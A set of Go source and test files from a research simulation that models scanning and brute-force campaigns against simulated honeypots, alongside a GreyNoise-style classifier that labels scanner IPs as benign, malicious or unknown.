				Ports:  []uint16{21, 22, 25, 443, 2222, 7547},
				Filter: func(t *netsim.Target) bool { return t.Kind == netsim.KindEducation },
				Cover:  0.5, MinAttempts: 1,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, sshCreds("user-heavy"), 1, 2)
				},
			})
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{21, 22, 25, 443, 2222, 7547}, PerIP: 12})
		}),
	}
}

// --- FTP/SMTP/TR-069/HTTPS campaigns (Table 8's mid-range overlaps) -----------

func portCampaigns(cfg Config) []*Actor {
	mk := func(name string, asn, n int, port uint16, telescopeSrcFrac float64, perIP int) *Actor {
		return newActor(cfg, name, asn, false, n, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{port}, Cover: 0.5, MinAttempts: 1, MaxAttempts: 2,
				Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
					if port == 443 {
						return ProbeID(fingerprint.TLS)
					}
					return 0
				},
			})
			k := int(float64(len(a.IPs)) * telescopeSrcFrac)
			if k > 0 {
				sub := *a
				sub.IPs = a.IPs[:k]
				sub.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{port}, PerIP: perIP})
			}
		})
	}
	return []*Actor{
		mk("ftp-brute", 8151, 80, 21, 0.10, 4),
		mk("smtp-scan", 28573, 80, 25, 0.06, 4),
		mk("tr069-scan", 17974, 90, 7547, 0.12, 5),
		mk("https-scan", 3462, 90, 443, 0.12, 5),
	}
}

// --- Neighborhood latchers (§4.1 / Table 2) -----------------------------------

// neighborLatchers create the per-IP preferences that make neighboring
// identical services receive significantly different traffic: for a
// deterministic subset of regions, a campaign floods exactly one of
// the region's honeypots.
func neighborLatchers(cfg Config) []*Actor {
	latchASNs := []int{6503, 8452, 17974, 45899, 9829, 131090, 55836, 24560, 18403, 4766, 28573, 12389}
	regions := greyNoiseRegionKeys()
	rng := netsim.Stream(cfg.Seed, "latch-plan")
	var actors []*Actor
	for i, region := range regions {
		region := region
		apac := isAPACRegion(region)
		kinds := []struct {
			kind string
			prob float64
		}{
			{"ssh", 0.42},
			{"telnet", 0.26},
			{"http", 0.30},
		}
		for _, k := range kinds {
			p := k.prob
			if apac {
				p += 0.25 // APAC regions attract more targeted campaigns (§5.1)
			}
			if rng.Float64() >= p {
				continue
			}
			k := k
			asn := latchASNs[(i+len(actors))%len(latchASNs)]
			name := "latch-" + k.kind + "-" + region
			flavor := sshUserListKeys[rng.Intn(len(sshUserListKeys))]
			vendorDict := telnetVendorDicts[rng.Intn(len(telnetVendorDicts))]
			// A small share of SSH campaigns carry an unusual password
			// list; most share the global set (Table 2: SSH passwords
			// differ in only 4% of neighborhoods).
			altPass := rng.Float64() < 0.10
			actors = append(actors, newActor(cfg, name, asn, false, 9, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
				victim := pickRegionVictim(ctx, region, k.kind)
				if victim == nil {
					return
				}
				only := func(t *netsim.Target) bool { return t == victim }
				switch k.kind {
				case "ssh":
					creds := sshCreds(flavor)
					if altPass {
						creds = append(append([]netsim.Credential{}, sshAltPasswords...), sshAltPasswords...)
					}
					a.ScanServices(ctx, emit, ServiceScan{
						Ports: []uint16{22}, Cover: 0.9, Filter: only,
						MinAttempts: 2, MaxAttempts: 5,
						Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
							return a.pickCreds(rng, creds, 2, 4)
						},
					})
				case "telnet":
					a.ScanServices(ctx, emit, ServiceScan{
						Ports: []uint16{23}, Cover: 0.9, Filter: only,
						MinAttempts: 5, MaxAttempts: 10,
						Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
							return a.pickCreds(rng, vendorDict, 2, 3)
						},
					})
					// Telnet campaigns are botnet-driven and do not
					// avoid unused address space (§5.2).
					a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{23}, PerIP: 6})
				case "http":
					a.ScanServices(ctx, emit, ServiceScan{
						Ports: []uint16{80, 8080}, Cover: 0.9, Filter: only,
						MinAttempts: 3, MaxAttempts: 6,
						Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
							g := HTTPExploitIDs("post-login")
							return g[rng.Intn(len(g))]
						},
					})
				}
			}))
		}
	}
	return actors
}

// --- APAC country-affinity campaigns (§5.1 / Tables 4, 5) ---------------------

// apacCountryActors give each Asia-Pacific country a campaign with its
// own credential and payload flavor, so APAC region *pairs* diverge
// while US/EU pairs (which share the global actor mix) stay similar.
func apacCountryActors(cfg Config) []*Actor {
	countries := []struct {
		cc     string
		asn    int
		flavor string
	}{
		{"SG", 131090, "service-heavy"},
		{"JP", 4766, "cloud-heavy"},
		{"KR", 4766, "root-heavy"},
		{"HK", 4837, "iot-heavy"},
		{"IN", 9829, "user-heavy"},
		{"ID", 17974, "iot-heavy"},
		{"AU", 1221, "cloud-heavy"},
		{"TW", 3462, "service-heavy"},
	}
	var actors []*Actor
	for i, c := range countries {
		c := c
		exploitGroup := "iot-apac"
		if i%2 == 0 {
			exploitGroup = "global"
		}
		actors = append(actors, newActor(cfg, "apac-"+c.cc, c.asn, false, 20, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			inCountry := func(t *netsim.Target) bool { return t.Geo.Country == c.cc }
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{22}, Cover: 0.55, Filter: inCountry,
				MinAttempts: 1, MaxAttempts: 3,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, sshCreds(c.flavor), 1, 3)
				},
			})
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{80, 8080}, Cover: 0.5, Filter: inCountry,
				MinAttempts: 1, MaxAttempts: 2,
				Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
					g := HTTPExploitIDs(exploitGroup)
					return g[rng.Intn(len(g))]
				},
			})
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{80, 8080}, PerIP: 3, Pick: Avoid255(4)})
		}))
	}
	return actors
}

// --- 2020 anomalies (Appendix C) ----------------------------------------------

// year2020Anomalies adds the one-off campaigns that made 2020's US/EU
// SSH comparisons noisier (Appendix C.3) and neighborhood SSH AS
// differences more common (Table 12: 73%).
func year2020Anomalies(cfg Config) []*Actor {
	regions := []string{"aws:us-oregon", "aws:eu-paris", "google:us-iowa", "google:eu-london", "linode:us-newyork", "google:eu-belgium"}
	var actors []*Actor
	for i, region := range regions {
		region := region
		asn := []int{12389, 49505, 202425}[i%3]
		actors = append(actors, newActor(cfg, "anomaly2020-"+region, asn, false, 20, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			victim := pickRegionVictim(ctx, region, "2020")
			if victim == nil {
				return
			}
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{22}, Cover: 0.9,
				Filter:      func(t *netsim.Target) bool { return t == victim },
				MinAttempts: 3, MaxAttempts: 6,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, sshCreds("service-heavy"), 2, 4)
				},
			})
		}))
	}
	return actors
}

// --- shared helpers -----------------------------------------------------------

func (a *Actor) pickCreds(rng *rand.Rand, dict []netsim.Credential, minN, maxN int) []netsim.Credential {
	n := minN
	if maxN > minN {
		n += rng.Intn(maxN - minN + 1)
	}
	if n > len(dict) {
		n = len(dict)
	}
	// The returned (record-retained) slice comes from the actor's
	// credential slab, so a cred-carrying probe costs no allocation of
	// its own; every dictionary fits in a word, so the seen-set is a
	// bitmask. The draw sequence is identical to the historical
	// map-based rejection loop.
	out := a.credAlloc(n)
	var seen uint64
	var seenBig map[int]bool
	if len(dict) > 64 {
		seenBig = map[int]bool{}
	}
	for len(out) < n {
		i := rng.Intn(len(dict))
		if seenBig != nil {
			if seenBig[i] {
				continue
			}
			seenBig[i] = true
		} else {
			if seen&(1<<i) != 0 {
				continue
			}
			seen |= 1 << i
		}
		out = append(out, dict[i])
	}
	return out
}

func rotateCreds(dict []netsim.Credential, offset int) []netsim.Credential {
	out := make([]netsim.Credential, len(dict))
	for i := range dict {
		out[i] = dict[(i+offset)%len(dict)]
	}
	return out
}

// greyNoiseRegionKeys mirrors cloud.GreyNoiseRegions without importing
// the package (scanners must stay independent of the deployment
// layout; region keys are part of the Target contract).
func greyNoiseRegionKeys() []string {
	return []string{
		"aws:us-oregon", "aws:us-california", "aws:us-georgia", "aws:sa-saopaulo",
		"aws:me-bahrain", "aws:eu-paris", "aws:eu-dublin", "aws:eu-frankfurt",
		"aws:ca-montreal", "aws:ap-sydney", "aws:ap-singapore", "aws:ap-mumbai",
		"aws:ap-seoul", "aws:ap-tokyo", "aws:ap-hongkong", "aws:af-capetown",
		"azure:us-texas", "azure:ap-singapore", "azure:ap-pune",
		"google:us-nevada", "google:us-utah", "google:us-california", "google:us-oregon",
		"google:us-virginia", "google:us-southcarolina", "google:us-iowa", "google:ca-quebec",
		"google:eu-zurich", "google:eu-netherlands", "google:eu-frankfurt", "google:eu-london",
		"google:eu-belgium", "google:eu-finland", "google:ap-sydney", "google:ap-jakarta",
		"google:ap-singapore", "google:ap-seoul", "google:ap-tokyo", "google:ap-hongkong",
		"google:ap-taiwan", "linode:us-california", "linode:us-newyork", "linode:eu-london",
		"linode:eu-frankfurt", "linode:ap-mumbai", "linode:ap-sydney", "linode:ap-singapore",
		"he:us-ohio",
	}
}

func isAPACRegion(key string) bool {
	for i := 0; i+3 <= len(key); i++ {
		if key[i:i+3] == ":ap" {
			return true
		}
	}
	return false
}
