package scanners

import "cloudwatch/internal/netsim"

// Emission estimation: a cheap pass over the population that predicts
// how many record-producing probes a full run will emit, so generation
// sinks can be pre-sized instead of growing geometrically through the
// hot path. Each actor's generator runs against a context in
// estimation mode — ScanServices adds its expected emission count
// analytically (no rng seeding, no per-probe work) and ScanTelescope
// contributes nothing — while probes a generator emits directly
// (outside the scan primitives) are counted for real on a copy of the
// actor narrowed to a couple of source IPs and scaled by the IP ratio
// (emission volume is linear in the source-IP count by construction).
// The consumer treats the result as a hint, never a bound.

// estimateSampleIPs is how many source IPs an actor keeps for the
// directly-emitting part of its estimate run: two, so per-source
// variance is averaged at least once while the sampled portion stays a
// small fraction of a full generation.
const estimateSampleIPs = 2

// estimateSampleActors caps how many actors the estimate runs: above
// the cap, actors are sampled at a fixed stride (populations are built
// archetype-grouped, so a stride hits every archetype roughly
// proportionally) and the total extrapolates through the sampled
// per-IP emission rate. The fixed per-actor cost of an estimate run —
// deriving the actor's random streams dominates — would otherwise grow
// linearly with population size for a number that only sizes buffers.
const estimateSampleActors = 96

// EstimateEmission returns the scaled number of emitted probes that
// satisfy keep (keep == nil counts everything; probes produced by the
// analytic ScanServices path are always counted — they all target
// monitored services). The estimate run is side-effect-free on the
// real generation: any random draws come from fresh streams keyed by
// the actor's name, and the narrowed actor copies share nothing
// mutable with the originals (the credential arena pointer is dropped,
// not shared).
func EstimateEmission(ctx *Context, actors []*Actor, keep func(p *netsim.Probe) bool) int {
	stride := 1
	if len(actors) > estimateSampleActors {
		stride = (len(actors) + estimateSampleActors - 1) / estimateSampleActors
	}
	totalIPs, sampledIPs := 0, 0
	for _, a := range actors {
		totalIPs += len(a.IPs)
	}
	total := 0.0
	for i := 0; i < len(actors); i += stride {
		a := actors[i]
		if len(a.IPs) == 0 {
			continue
		}
		sampledIPs += len(a.IPs)
		sample := a.IPs
		if len(sample) > estimateSampleIPs {
			sample = sample[:estimateSampleIPs]
		}
		narrowed := *a
		narrowed.IPs = sample
		narrowed.arena = nil

		var est float64
		ectx := *ctx
		ectx.est = &est
		direct := 0
		narrowed.Run(&ectx, func(p *netsim.Probe) {
			if keep == nil || keep(p) {
				direct++
			}
		})
		// est and direct both scale linearly with the narrowed IP set.
		total += (est + float64(direct)) * float64(len(a.IPs)) / float64(len(sample))
	}
	// Unsampled actors extrapolate through the sampled per-IP rate.
	if sampledIPs > 0 && sampledIPs < totalIPs {
		total *= float64(totalIPs) / float64(sampledIPs)
	}
	return int(total)
}
