// Package greynoise reproduces the labeling side of the GreyNoise API
// the paper uses in §6: scanner source IPs are classified benign
// (owner passed a vetting process), malicious (observed actively
// exploiting services), or unknown (everyone else — 78% of scanning
// IPs GreyNoise saw in 2022).
package greynoise

import (
	"maps"
	"sync"

	"cloudwatch/internal/wire"
)

// Classification is the GreyNoise verdict for a scanning IP.
type Classification int

// Verdicts.
const (
	Unknown Classification = iota
	Benign
	Malicious
)

// String names the verdict as the API does.
func (c Classification) String() string {
	switch c {
	case Benign:
		return "benign"
	case Malicious:
		return "malicious"
	default:
		return "unknown"
	}
}

// Service accumulates observations and answers classification queries.
// It is safe for concurrent use.
type Service struct {
	mu        sync.RWMutex
	vettedASN map[int]bool
	exploited map[wire.Addr]bool
	seen      map[wire.Addr]bool
}

// NewService returns an empty classifier.
func NewService() *Service {
	return &Service{
		vettedASN: map[int]bool{},
		exploited: map[wire.Addr]bool{},
		seen:      map[wire.Addr]bool{},
	}
}

// VetASN marks an organization as having "undergone a rigorous vetting
// process"; its scanners classify as benign unless individually
// observed exploiting.
func (s *Service) VetASN(asn int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.vettedASN[asn] = true
}

// Observe records that a source IP was seen scanning.
func (s *Service) Observe(src wire.Addr) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.seen[src] = true
}

// ObserveExploit records that a source IP was "seen actively
// exploiting services".
func (s *Service) ObserveExploit(src wire.Addr) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.seen[src] = true
	s.exploited[src] = true
}

// RemoveExploit withdraws an exploit observation: the source drops
// back to seen-but-not-exploiting. The incremental snapshot assembler
// uses it when a moved verdict anchor flips a payload benign and no
// malicious record names the source anymore.
func (s *Service) RemoveExploit(src wire.Addr) {
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.exploited, src)
}

// Clone returns a service with the same observation state. The three
// aggregates are deep-copied, so extending the clone (Merge,
// MergeDelta, ObserveExploit) never mutates the original — the
// incremental snapshot chain clones the previous prefix's service and
// folds only the new epoch's deltas into the clone.
func (s *Service) Clone() *Service {
	s.mu.RLock()
	defer s.mu.RUnlock()
	// maps.Clone is a runtime-assisted bulk copy (no per-entry
	// rehash), and the incremental snapshot chain clones once per
	// ingested epoch over ever-growing sets.
	n := &Service{
		vettedASN: maps.Clone(s.vettedASN),
		exploited: maps.Clone(s.exploited),
		seen:      maps.Clone(s.seen),
	}
	return n
}

// Merge folds another service's observations into s. All three
// aggregates are sets, so merging per-worker deltas in any order
// reaches the same state as serial observation — the property the
// parallel study pipeline relies on. The snapshot of o is taken
// before s locks, so concurrent merges — even cyclic ones — cannot
// deadlock.
func (s *Service) Merge(o *Service) {
	if s == o {
		return
	}
	o.mu.RLock()
	vetted := make([]int, 0, len(o.vettedASN))
	for asn := range o.vettedASN {
		vetted = append(vetted, asn)
	}
	seen := make([]wire.Addr, 0, len(o.seen))
	for src := range o.seen {
		seen = append(seen, src)
	}
	exploited := make([]wire.Addr, 0, len(o.exploited))
	for src := range o.exploited {
		exploited = append(exploited, src)
	}
	o.mu.RUnlock()

	s.mu.Lock()
	defer s.mu.Unlock()
	for _, asn := range vetted {
		s.vettedASN[asn] = true
	}
	for _, src := range seen {
		s.seen[src] = true
	}
	for _, src := range exploited {
		s.exploited[src] = true
	}
}

// Delta is a lock-free observation accumulator for a single pipeline
// worker: the same seen/exploited semantics as Service.Observe and
// ObserveExploit without per-call locking. A Delta must only be
// written from one goroutine; fold it into a shared Service with
// MergeDelta once the worker is done.
type Delta struct {
	seen      map[wire.Addr]struct{}
	exploited map[wire.Addr]struct{}

	// last short-circuits the seen-set insert while one source's probe
	// run lasts (actors emit long same-source runs); lastExp does the
	// same for the exploited-set insert (verdict fills walk records in
	// canonical order, which has the same run structure).
	last      wire.Addr
	lastOK    bool
	lastExp   wire.Addr
	lastExpOK bool
}

// NewDelta returns an empty per-worker accumulator.
func NewDelta() *Delta {
	return &Delta{
		seen:      map[wire.Addr]struct{}{},
		exploited: map[wire.Addr]struct{}{},
	}
}

// Observe records that a source IP was seen scanning.
func (d *Delta) Observe(src wire.Addr) {
	if d.lastOK && src == d.last {
		return
	}
	d.seen[src] = struct{}{}
	d.last, d.lastOK = src, true
}

// ObserveExploit records that a source IP was seen actively exploiting
// services.
func (d *Delta) ObserveExploit(src wire.Addr) {
	if d.lastExpOK && src == d.lastExp {
		return
	}
	d.seen[src] = struct{}{}
	d.exploited[src] = struct{}{}
	d.lastExp, d.lastExpOK = src, true
}

// MergeDelta folds a worker delta into the service under one lock
// acquisition. Both aggregates are set unions, so merging deltas in
// any order reaches the same state as serial observation.
func (s *Service) MergeDelta(d *Delta) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for src := range d.seen {
		s.seen[src] = true
	}
	for src := range d.exploited {
		s.exploited[src] = true
		s.seen[src] = true
	}
}

// Classify returns the verdict for a source IP in a given AS. Exploit
// observations dominate vetting; unseen and unvetted IPs are unknown.
func (s *Service) Classify(src wire.Addr, asn int) Classification {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if s.exploited[src] {
		return Malicious
	}
	if s.vettedASN[asn] {
		return Benign
	}
	return Unknown
}

// Stats returns the number of observed, exploited, and vetted-AS
// entries.
func (s *Service) Stats() (seen, exploited, vettedASNs int) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.seen), len(s.exploited), len(s.vettedASN)
}
