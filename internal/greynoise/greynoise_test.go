package greynoise

import (
	"sync"
	"testing"

	"cloudwatch/internal/wire"
)

func TestClassification(t *testing.T) {
	s := NewService()
	s.VetASN(398324)

	vetted := wire.MustParseAddr("1.1.1.1")
	attacker := wire.MustParseAddr("2.2.2.2")
	stranger := wire.MustParseAddr("3.3.3.3")

	s.Observe(vetted)
	s.ObserveExploit(attacker)

	if got := s.Classify(vetted, 398324); got != Benign {
		t.Errorf("vetted = %v, want benign", got)
	}
	if got := s.Classify(attacker, 4134); got != Malicious {
		t.Errorf("attacker = %v, want malicious", got)
	}
	if got := s.Classify(stranger, 4134); got != Unknown {
		t.Errorf("stranger = %v, want unknown", got)
	}
	// Exploit observation overrides vetting.
	s.ObserveExploit(vetted)
	if got := s.Classify(vetted, 398324); got != Malicious {
		t.Errorf("vetted-but-exploiting = %v, want malicious", got)
	}
}

func TestClassificationString(t *testing.T) {
	if Benign.String() != "benign" || Malicious.String() != "malicious" || Unknown.String() != "unknown" {
		t.Error("classification strings")
	}
	if Classification(9).String() != "unknown" {
		t.Error("out-of-range classification")
	}
}

func TestStats(t *testing.T) {
	s := NewService()
	s.VetASN(1)
	s.Observe(wire.MustParseAddr("1.0.0.1"))
	s.Observe(wire.MustParseAddr("1.0.0.2"))
	s.ObserveExploit(wire.MustParseAddr("1.0.0.2"))
	seen, exploited, vetted := s.Stats()
	if seen != 2 || exploited != 1 || vetted != 1 {
		t.Errorf("Stats = %d, %d, %d", seen, exploited, vetted)
	}
}

// TestMergeEquivalentToSerial splits one observation stream across two
// shard services and checks the merged result matches serial
// observation — the invariant the parallel study pipeline depends on.
func TestMergeEquivalentToSerial(t *testing.T) {
	serial := NewService()
	a, b := NewService(), NewService()
	for i := 0; i < 100; i++ {
		ip := wire.Addr(uint32(i))
		sh := a
		if i%2 == 1 {
			sh = b
		}
		serial.Observe(ip)
		sh.Observe(ip)
		if i%5 == 0 {
			serial.ObserveExploit(ip)
			sh.ObserveExploit(ip)
		}
	}
	serial.VetASN(7)
	a.VetASN(7)

	merged := NewService()
	merged.Merge(a)
	merged.Merge(b)

	mSeen, mExp, mVet := merged.Stats()
	sSeen, sExp, sVet := serial.Stats()
	if mSeen != sSeen || mExp != sExp || mVet != sVet {
		t.Errorf("merged Stats = %d,%d,%d, want %d,%d,%d", mSeen, mExp, mVet, sSeen, sExp, sVet)
	}
	for i := 0; i < 100; i++ {
		ip := wire.Addr(uint32(i))
		if got, want := merged.Classify(ip, 7), serial.Classify(ip, 7); got != want {
			t.Errorf("Classify(%d) = %v, want %v", i, got, want)
		}
	}
}

// TestMergeConcurrent merges shard deltas into one destination from
// several goroutines; the destination's own lock must make that safe.
func TestMergeConcurrent(t *testing.T) {
	dst := NewService()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			sh := NewService()
			for j := 0; j < 100; j++ {
				sh.Observe(wire.Addr(uint32(i*1000 + j)))
			}
			dst.Merge(sh)
		}(i)
	}
	wg.Wait()
	seen, _, _ := dst.Stats()
	if seen != 8*100 {
		t.Errorf("seen = %d, want %d", seen, 8*100)
	}
}

func TestConcurrentAccess(t *testing.T) {
	s := NewService()
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < 200; j++ {
				ip := wire.Addr(uint32(i*1000 + j))
				s.Observe(ip)
				if j%3 == 0 {
					s.ObserveExploit(ip)
				}
				s.Classify(ip, i)
			}
		}(i)
	}
	wg.Wait()
	seen, _, _ := s.Stats()
	if seen != 16*200 {
		t.Errorf("seen = %d, want %d", seen, 16*200)
	}
}

// TestDeltaMatchesService checks the lock-free worker delta reaches
// the same classifier state as direct Service observation, including
// the repeated-source fast path.
func TestDeltaMatchesService(t *testing.T) {
	direct := NewService()
	viaDelta := NewService()
	d := NewDelta()

	srcs := []wire.Addr{10, 10, 10, 11, 10, 12, 12}
	for _, s := range srcs {
		direct.Observe(s)
		d.Observe(s)
	}
	direct.ObserveExploit(11)
	d.ObserveExploit(11)
	direct.Observe(10) // post-exploit repeat
	d.Observe(10)
	viaDelta.MergeDelta(d)

	wantSeen, wantExp, _ := direct.Stats()
	gotSeen, gotExp, _ := viaDelta.Stats()
	if gotSeen != wantSeen || gotExp != wantExp {
		t.Fatalf("delta state = seen %d exploited %d, want %d %d", gotSeen, gotExp, wantSeen, wantExp)
	}
	for _, s := range []wire.Addr{10, 11, 12} {
		if g, w := viaDelta.Classify(s, 0), direct.Classify(s, 0); g != w {
			t.Fatalf("src %d classifies %v via delta, %v direct", s, g, w)
		}
	}
	// Merging a second delta unions commutatively.
	d2 := NewDelta()
	d2.ObserveExploit(10)
	viaDelta.MergeDelta(d2)
	if viaDelta.Classify(10, 0) != Malicious {
		t.Fatal("second delta merge lost an exploit observation")
	}
}

// TestServiceCloneIsolation checks the incremental-chain contract: a
// clone classifies exactly like the original, and new observations on
// the clone never leak back.
func TestServiceCloneIsolation(t *testing.T) {
	orig := NewService()
	orig.VetASN(7)
	orig.Observe(wire.MustParseAddr("1.1.1.1"))
	orig.ObserveExploit(wire.MustParseAddr("2.2.2.2"))

	clone := orig.Clone()
	cSeen, cExp, cVet := clone.Stats()
	oSeen, oExp, oVet := orig.Stats()
	if cSeen != oSeen || cExp != oExp || cVet != oVet {
		t.Fatalf("clone Stats = %d,%d,%d, want %d,%d,%d", cSeen, cExp, cVet, oSeen, oExp, oVet)
	}
	if clone.Classify(wire.MustParseAddr("2.2.2.2"), 0) != Malicious {
		t.Fatal("clone lost an exploit observation")
	}
	if clone.Classify(wire.MustParseAddr("1.1.1.1"), 7) != Benign {
		t.Fatal("clone lost the vetted ASN")
	}

	// Extending the clone (directly and via a worker delta) leaves the
	// original sealed.
	clone.ObserveExploit(wire.MustParseAddr("1.1.1.1"))
	d := NewDelta()
	d.Observe(wire.MustParseAddr("3.3.3.3"))
	clone.MergeDelta(d)

	if orig.Classify(wire.MustParseAddr("1.1.1.1"), 7) != Benign {
		t.Fatal("clone exploit observation leaked into the original")
	}
	if seen, exploited, _ := orig.Stats(); seen != 2 || exploited != 1 {
		t.Fatalf("original Stats moved: seen %d exploited %d, want 2 and 1", seen, exploited)
	}
	if seen, exploited, _ := clone.Stats(); seen != 3 || exploited != 2 {
		t.Fatalf("clone Stats = seen %d exploited %d, want 3 and 2", seen, exploited)
	}
}
