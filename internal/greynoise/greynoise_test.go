package greynoise

import (
	"sync"
	"testing"

	"cloudwatch/internal/wire"
)

func TestClassification(t *testing.T) {
	s := NewService()
	s.VetASN(398324)

	vetted := wire.MustParseAddr("1.1.1.1")
	attacker := wire.MustParseAddr("2.2.2.2")
	stranger := wire.MustParseAddr("3.3.3.3")

	s.Observe(vetted)
	s.ObserveExploit(attacker)

	if got := s.Classify(vetted, 398324); got != Benign {
		t.Errorf("vetted = %v, want benign", got)
	}
	if got := s.Classify(attacker, 4134); got != Malicious {
		t.Errorf("attacker = %v, want malicious", got)
	}
	if got := s.Classify(stranger, 4134); got != Unknown {
		t.Errorf("stranger = %v, want unknown", got)
	}
	// Exploit observation overrides vetting.
	s.ObserveExploit(vetted)
	if got := s.Classify(vetted, 398324); got != Malicious {
		t.Errorf("vetted-but-exploiting = %v, want malicious", got)
	}
}

func TestClassificationString(t *testing.T) {
	if Benign.String() != "benign" || Malicious.String() != "malicious" || Unknown.String() != "unknown" {
		t.Error("classification strings")
	}
	if Classification(9).String() != "unknown" {
		t.Error("out-of-range classification")
	}
}

func TestStats(t *testing.T) {
	s := NewService()
	s.VetASN(1)
	s.Observe(wire.MustParseAddr("1.0.0.1"))
	s.Observe(wire.MustParseAddr("1.0.0.2"))
	s.ObserveExploit(wire.MustParseAddr("1.0.0.2"))
	seen, exploited, vetted := s.Stats()
	if seen != 2 || exploited != 1 || vetted != 1 {
		t.Errorf("Stats = %d, %d, %d", seen, exploited, vetted)
	}
}

func TestConcurrentAccess(t *testing.T) {
	s := NewService()
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < 200; j++ {
				ip := wire.Addr(uint32(i*1000 + j))
				s.Observe(ip)
				if j%3 == 0 {
					s.ObserveExploit(ip)
				}
				s.Classify(ip, i)
			}
		}(i)
	}
	wg.Wait()
	seen, _, _ := s.Stats()
	if seen != 16*200 {
		t.Errorf("seen = %d, want %d", seen, 16*200)
	}
}
