package greynoise

import (
	"reflect"
	"testing"

	"cloudwatch/internal/wire"
)

func TestDeltaBinaryRoundTrip(t *testing.T) {
	d := NewDelta()
	d.Observe(10)
	d.Observe(11)
	d.ObserveExploit(12)
	d.Observe(10) // run-length repeat

	enc := d.AppendBinary(nil)
	r := wire.NewBinReader(enc)
	got, err := DecodeDelta(r)
	if err != nil {
		t.Fatal(err)
	}
	if r.Len() != 0 {
		t.Fatalf("decoder left %d bytes", r.Len())
	}
	if !reflect.DeepEqual(got.seen, d.seen) || !reflect.DeepEqual(got.exploited, d.exploited) {
		t.Fatalf("round trip mismatch: %v/%v vs %v/%v", got.seen, got.exploited, d.seen, d.exploited)
	}

	// Folding the decoded delta into a service equals folding the
	// original.
	a, b := NewService(), NewService()
	a.MergeDelta(d)
	b.MergeDelta(got)
	as, ae, _ := a.Stats()
	bs, be, _ := b.Stats()
	if as != bs || ae != be {
		t.Fatalf("service stats diverge: %d/%d vs %d/%d", as, ae, bs, be)
	}
}

func TestDecodeDeltaRejectsTruncation(t *testing.T) {
	d := NewDelta()
	d.Observe(1)
	d.ObserveExploit(2)
	enc := d.AppendBinary(nil)
	for cut := 0; cut < len(enc); cut++ {
		if _, err := DecodeDelta(wire.NewBinReader(enc[:cut])); err == nil {
			t.Fatalf("truncation at %d decoded successfully", cut)
		}
	}
}
