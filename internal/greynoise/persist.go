package greynoise

import (
	"fmt"

	"cloudwatch/internal/wire"
)

// Serialization of a sealed per-worker delta for the durable epoch
// store. Only the two observation sets are persisted; the same-source
// run caches are observe-time transients, and a restored delta is only
// ever folded into a Service with MergeDelta.

// AppendBinary serializes the delta's observation sets onto dst.
func (d *Delta) AppendBinary(dst []byte) []byte {
	dst = wire.AppendU32(dst, uint32(len(d.seen)))
	for src := range d.seen {
		dst = wire.AppendU32(dst, uint32(src))
	}
	dst = wire.AppendU32(dst, uint32(len(d.exploited)))
	for src := range d.exploited {
		dst = wire.AppendU32(dst, uint32(src))
	}
	return dst
}

// DecodeDelta reads one serialized delta.
func DecodeDelta(r *wire.BinReader) (*Delta, error) {
	d := NewDelta()
	n := r.Count(4)
	for i := 0; i < n; i++ {
		d.seen[wire.Addr(r.U32())] = struct{}{}
	}
	n = r.Count(4)
	for i := 0; i < n; i++ {
		d.exploited[wire.Addr(r.U32())] = struct{}{}
	}
	if err := r.Err(); err != nil {
		return nil, fmt.Errorf("greynoise: decoding delta: %w", err)
	}
	return d, nil
}
