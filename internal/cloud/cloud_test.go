package cloud

import (
	"testing"

	"cloudwatch/internal/netsim"
)

func TestRegionCounts(t *testing.T) {
	byProvider := map[Provider]int{}
	for _, r := range GreyNoiseRegions {
		byProvider[r.Provider]++
	}
	want := map[Provider]int{AWS: 16, Azure: 3, Google: 21, Linode: 7, Hurricane: 1}
	for p, n := range want {
		if byProvider[p] != n {
			t.Errorf("%s has %d regions, want %d (Table 1)", p, byProvider[p], n)
		}
	}
}

func TestRegionCountries(t *testing.T) {
	countries := map[string]bool{}
	for _, r := range GreyNoiseRegions {
		countries[r.Geo.Country] = true
	}
	// Table 1 spans 23 countries counting territories separately; with
	// ISO codes (US states as subdivisions) the fleet spans 21 codes.
	if len(countries) != 21 {
		t.Errorf("GreyNoise fleet spans %d country codes, want 21", len(countries))
	}
	for _, c := range []string{"US", "SG", "IN", "AU", "JP", "KR", "HK", "DE", "FR", "GB", "BR", "ZA", "BH"} {
		if !countries[c] {
			t.Errorf("missing country %s", c)
		}
	}
}

func TestProviderKinds(t *testing.T) {
	if AWS.Kind() != netsim.KindCloud || Hurricane.Kind() != netsim.KindCloud {
		t.Error("cloud kinds")
	}
	if Stanford.Kind() != netsim.KindEducation || Merit.Kind() != netsim.KindEducation {
		t.Error("education kinds")
	}
